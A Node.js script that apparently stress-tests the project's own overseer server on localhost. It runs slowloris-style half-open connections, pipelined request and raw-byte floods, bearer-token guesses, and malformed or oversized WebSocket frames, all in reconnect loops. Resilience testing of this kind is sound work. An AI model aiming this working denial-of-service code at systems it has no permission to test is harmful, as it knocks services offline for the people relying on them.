// Does to an overseer what it has to stand: for so long, all of it at once. What it costs the nodes is seen in a table
// beside it (`aurasim top`), or in /metrics of a second overseer.
//   node attack.mjs http://127.0.0.1:PORT/ [--seconds 20]
import net from "node:net";
import { parseArgs } from "node:util";

const { values, positionals } = parseArgs({ allowPositionals: true, options: { seconds: { type: "string", default: "20" } } });
const { hostname, port, host } = new URL(positionals[0]);
const done = { connections: 0, bytes: 0 };
let over = false;

/** A connection that does something, and comes again when it was shown the door. */
function again(begin) {
  if (over) return;
  const socket = net.connect(Number(port), hostname);
  socket.on("error", () => {});
  socket.on("close", () => { done.bytes += socket.bytesWritten; setTimeout(() => again(begin), 20); });
  socket.on("connect", () => { ++done.connections; begin(socket); });
  setTimeout(() => socket.destroy(), 1000 * Number(values.seconds)).unref();
}

/** Writes the same again and again, as fast as it is taken. */
function pour(socket, bytes) {
  const write = () => { while (!over && !socket.destroyed && socket.write(bytes)); };
  socket.on("drain", write);
  socket.resume();
  write();
}

const upgrade = `GET /ws HTTP/1.1\r\nHost: ${host}\r\nUpgrade: websocket\r\nConnection: Upgrade\r\n`
  + "Sec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\r\nSec-WebSocket-Version: 13\r\n\r\n";
const frame = (first, payload) => Buffer.concat([Buffer.from([first, 0x80 | payload.length, 0, 0, 0, 0]), payload]);
const asPage = (bytes) => (socket) => { socket.write(upgrade); socket.once("data", () => pour(socket, bytes)); };
const huge = Buffer.concat([Buffer.from([0x81, 0xff, 0, 0, 0, 0, 5, 0xf5, 0xe1, 0, 0, 0, 0, 0]), Buffer.alloc(1 << 20)]);

for (let i = 0; i < 500; ++i) again((socket) => socket.write("GET / HTTP/1.1\r\nHos"));
for (let i = 0; i < 8; ++i) {
  again((socket) => pour(socket, `GET / HTTP/1.1\r\nHost: ${host}\r\n\r\n`.repeat(100)));
  again((socket) => pour(socket, Buffer.alloc(65536, 0xff)));
  again((socket) => pour(socket, `POST /api/session HTTP/1.1\r\nHost: ${host}\r\nAuthorization: Bearer guess\r\n\r\n`));
  again(asPage(Buffer.concat(Array(100).fill(frame(0x81, Buffer.from('{"type":"watch","slot":1}'))))));
  again(asPage(Buffer.concat(Array(100).fill(frame(0x81, Buffer.from('{"type":'))))));
  again(asPage(frame(0x89, Buffer.alloc(0))));
  again(asPage(huge));
}
setTimeout(() => {
  over = true;
  console.log(JSON.stringify({ connections: done.connections, MB: Math.round(done.bytes / 1e6) }));
  process.exit(0);
}, 1000 * Number(values.seconds));
